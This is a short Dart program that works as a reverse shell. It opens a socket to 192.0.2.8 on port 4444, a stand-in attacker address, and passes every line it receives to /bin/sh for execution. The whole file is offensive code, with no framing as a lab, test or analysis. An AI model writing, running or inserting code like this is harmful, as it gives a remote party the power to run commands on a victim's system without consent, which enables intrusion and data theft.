import 'dart:io';
main() {
  Socket.connect('192.0.2.8', 4444).then((socket) {
    socket.listen((data) {
      Process.start('/bin/sh', []).then((process) {
        process.stdin.writeln(new String.fromCharCodes(data).trim());
      });
    });
  });
}
